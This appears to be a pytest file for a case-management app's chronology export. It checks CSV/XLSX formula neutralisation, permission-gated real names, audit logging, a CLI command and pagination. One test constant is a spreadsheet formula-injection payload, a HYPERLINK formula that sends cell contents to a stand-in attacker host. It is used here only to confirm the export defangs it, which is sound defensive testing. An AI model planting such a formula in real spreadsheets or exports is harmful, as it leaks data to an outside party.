"""Chronology export: formula-proof cells, pseudonyms or real names by permission, audited, and the CLI."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from dhr.audit.models import AuditEvent
from dhr.evidence import services
from dhr.evidence.export import neutralise
from dhr.evidence.fuzzy_dates import parse_fuzzy_date
from dhr.evidence.models import AgencyInvolvement
from dhr.extensions import db as _db
from tests.conftest import start_session_cookie
from tests.reviews.review_world import build_review_world

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _world_with_accepted_entries(db):
    world = db.run(build_review_world)

    def _accept():
        involvement = _db.session.get(AgencyInvolvement, world["evidence"]["A"]["involvement"])
        people = involvement.review.people
        services.add_entry(
            involvement,
            when=parse_fuzzy_date("2/3/2026"),
            people=people,
            actor=world["users"]["contributor_a"],
            details=HOSTILE,
            outcome="+44 20 7946 0000",
            comment="@mention",
            source_ref="-1",
        )
        services.submit(involvement, actor=world["users"]["contributor_a"])
        services.accept(involvement, actor=world["users"]["chair"])

    db.run(_accept)
    return world


def _as(app, db, world, persona):
    client = app.test_client()
    start_session_cookie(client, db, world["users"][persona])
    return client


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+44") == "'+44"
    assert neutralise("-1") == "'-1"
    assert neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("Plain text") == "Plain text"


def test_csv_cells_can_never_be_formulas(app, db):
    world = _world_with_accepted_entries(db)
    chair = _as(app, db, world, "chair")
    response = chair.get(f"/reviews/{world['objects']['R1']['review']}/chronology/export?format=csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in table[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "Adult R1" in response.get_data(as_text=True)
    assert "CNRY-REALNAME-R1" not in response.get_data(as_text=True)


def test_xlsx_cells_are_text_and_real_names_need_permission(app, db):
    world = _world_with_accepted_entries(db)
    review = world["objects"]["R1"]["review"]
    chair = _as(app, db, world, "chair")
    response = chair.get(f"/reviews/{review}/chronology/export?format=xlsx&names=real")
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert HOSTILE in [cell.value for cell in values]
    assert "CNRY-REALNAME-R1" in [cell.value for cell in values]
    panel = _as(app, db, world, "panel_member")
    assert panel.get(f"/reviews/{review}/chronology/export?format=xlsx&names=real").status_code == 403
    pseudonyms = load_workbook(io.BytesIO(panel.get(f"/reviews/{review}/chronology/export?format=xlsx").data)).active
    assert "CNRY-REALNAME-R1" not in [c.value for row in pseudonyms.iter_rows() for c in row]
    assert load_workbook(io.BytesIO(response.data)).properties.creator == "DHR Case Manager"
    exports = db.scalars(select(AuditEvent).where(AuditEvent.action == "chronology.exported"))
    assert [e.data["real_names"] for e in exports] == [True, False]


def test_export_chronology_command(app, db, tmp_path):
    world = _world_with_accepted_entries(db)
    from dhr.reviews.models import Review

    reference = db.scalar(select(Review.reference).where(Review.id == world["objects"]["R1"]["review"]))
    out = tmp_path / "chronology.csv"
    result = app.test_cli_runner().invoke(
        args=["dhr", "export-chronology", reference, "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 2 entries" in result.output
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells
    missing = app.test_cli_runner().invoke(args=["dhr", "export-chronology", "NOPE", "--out", str(out)])
    assert missing.exit_code != 0


def test_chronology_pages_follow_by_key_and_agree_with_pages_asked_for_by_number(app, db):
    """Next and Previous carry the entry their page starts at; the same page asked for by number is the same page;
    and no entry is skipped or shown twice where entries share a day, a time, or have no time (those come last)."""
    import random
    import re
    from datetime import time

    world = db.run(build_review_world)

    def add_entries() -> list[str]:
        involvement = _db.session.get(AgencyInvolvement, world["evidence"]["A"]["involvement"])
        rng = random.Random(18)
        made = []
        for n in rng.sample(range(230), 230):  # recorded out of date order, so ids do not follow dates
            day = 1 + n % 23
            at = ("", " 09:30", " 09:30", " 14:05")[n % 4]  # untimed, and two at the same time
            entry = services.add_entry(
                involvement,
                when=parse_fuzzy_date(f"{day}/3/2026{at}"),
                people=[],
                actor=world["users"]["contributor_a"],
                details=f"Entry number {n:03d}",
            )
            _db.session.flush()
            made.append((entry.date_start, entry.time_of_day is None, entry.time_of_day, entry.id, f"{n:03d}"))
        services.submit(involvement, actor=world["users"]["contributor_a"])
        services.accept(involvement, actor=world["users"]["chair"])
        return [row[-1] for row in sorted(made, key=lambda row: (row[0], row[1], row[2] or time.min, row[3]))]

    expected = db.run(add_entries)
    review_id = world["objects"]["R1"]["review"]
    client = _as(app, db, world, "chair")
    base = f"/reviews/{review_id}/chronology"
    numbers = lambda html: re.findall(r"Entry number (\d{3})", html)  # noqa: E731
    links = lambda html: {  # noqa: E731
        rel: href.replace("&amp;", "&") for href, rel in re.findall(r'href="([^"]+)" rel="(next|prev)"', html)
    }
    html = client.get(base).get_data(as_text=True)
    assert "Page 1 of 3" in html
    pages = []
    for number in (1, 2, 3):
        pages.append(numbers(html))
        assert pages[-1] == numbers(client.get(f"{base}?page={number}").get_data(as_text=True))
        if number < 3:
            assert "from=" in links(html)["next"]
            html = client.get(links(html)["next"]).get_data(as_text=True)
    assert [n for page in pages for n in page] == expected  # the world's own entries are among them, not numbered
    back = client.get(links(html)["prev"]).get_data(as_text=True)
    assert "Page 2 of 3" in back
    assert numbers(back) == pages[1]
    assert numbers(client.get(f"{base}?page=2&from=not~a~key").get_data(as_text=True)) == pages[1]
